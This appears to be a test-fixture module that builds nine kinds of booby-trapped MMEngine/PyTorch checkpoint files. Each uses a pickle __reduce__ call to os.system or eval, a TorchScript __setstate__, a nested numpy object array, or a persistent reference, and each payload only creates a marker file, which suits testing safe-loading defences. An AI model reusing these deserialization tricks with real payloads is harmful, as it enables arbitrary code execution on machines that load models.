"""Checkpoints with a payload: each makes a file of its own when it runs.

Nine ways in which a file that looks like a checkpoint of MMEngine's can hold
a program. PyTorch before 2.6 runs all of them.
"""
import io
import os
import pickle
import tarfile
from collections import OrderedDict
from pathlib import Path
from typing import Any

import numpy as np
import torch
import torch.nn as nn
from mmengine.logging import MMLogger


class Call:
    """Pickles as a call: `function(*arguments)` when it is loaded."""

    def __init__(self, function, *arguments):
        self.call = function, arguments

    def __reduce__(self):
        return self.call


def touch(ran: Path) -> Call:
    return Call(os.system, f'touch {ran}')


def checkpoint(**changes: Any) -> dict:
    """What MMEngine saves, in short, with something else in it."""
    content = dict(
        meta=dict(epoch=1, iter=2, dataset_meta=dict(name='crowd')),
        state_dict=OrderedDict(weight=torch.ones(2)),
        optimizer=dict(state={}, param_groups=[]),
        message_hub=dict(log_scalars={}, runtime_info={}))
    return {**content, **changes}


def in_place_of_all(path: Path, ran: Path) -> None:
    torch.save(touch(ran), path)


def in_the_legacy_format(path: Path, ran: Path) -> None:
    torch.save(
        checkpoint(meta=touch(ran)),
        path,
        _use_new_zipfile_serialization=False)


def in_a_legacy_tar(path: Path, ran: Path) -> None:
    """The format of before PyTorch 0.2."""
    with tarfile.open(path, 'w') as tar:
        for name in ('sys_info', 'pickle', 'storages', 'tensors'):
            content = pickle.dumps(touch(ran), 2)
            member = tarfile.TarInfo(name)
            member.size = len(content)
            tar.addfile(member, io.BytesIO(content))


def in_the_meta(path: Path, ran: Path) -> None:
    meta = dict(dataset_meta=dict(sigmas=[0.1, touch(ran)]))
    torch.save(checkpoint(meta=meta), path)


def in_the_optimizer(path: Path, ran: Path) -> None:
    groups = [dict(lr=Call(eval, f'open({str(ran)!r}, "w").close()'))]
    torch.save(checkpoint(optimizer=dict(param_groups=groups)), path)


class Program(nn.Module):
    """Writes a file when it is loaded, which TorchScript can."""

    def __init__(self, ran: str) -> None:
        super().__init__()
        self.ran = ran

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x

    @torch.jit.export
    def __getstate__(self) -> str:
        return self.ran

    @torch.jit.export
    def __setstate__(self, ran: str) -> None:
        self.training = False
        self.ran = ran
        torch.save(torch.ones(1), ran)


def in_a_torchscript_archive(path: Path, ran: Path) -> None:
    torch.jit.save(torch.jit.script(Program(str(ran))), str(path))


def in_an_object_array(path: Path, ran: Path) -> None:
    """As numpy's files of objects are read: pickled, inside the pickle."""
    file = io.BytesIO()
    np.save(file, np.array([touch(ran)], object), allow_pickle=True)
    file = Call(io.BytesIO, file.getvalue())
    array = Call(np.load, file, None, True)
    torch.save(checkpoint(message_hub=dict(runtime_info=array)), path)


def in_a_reference(path: Path, ran: Path) -> None:
    """As what tells which storage a tensor has, in the legacy format."""

    class Pickler(pickle.Pickler):

        def persistent_id(self, value):
            if value == 'a tensor':
                return 'module', Call(eval, f'open({str(ran)!r}, "w")'), '', ''

    with open(path, 'wb') as file:
        for head in (torch.serialization.MAGIC_NUMBER,
                     torch.serialization.PROTOCOL_VERSION, {}):
            pickle.dump(head, file, 2)
        Pickler(file, 2).dump(checkpoint(state_dict='a tensor'))
        pickle.dump([], file, 2)


def in_a_trusted_module(path: Path, ran: Path) -> None:
    """Classes of numpy and MMEngine that write files."""
    torch.save(
        checkpoint(
            meta=Call(np.memmap, str(ran), 'uint8', 'w+', 0, (1, )),
            message_hub=Call(MMLogger, ran.name, 'a', str(ran))), path)


WAYS = [
    in_place_of_all, in_the_legacy_format, in_a_legacy_tar, in_the_meta,
    in_the_optimizer, in_a_torchscript_archive, in_an_object_array,
    in_a_reference, in_a_trusted_module
]
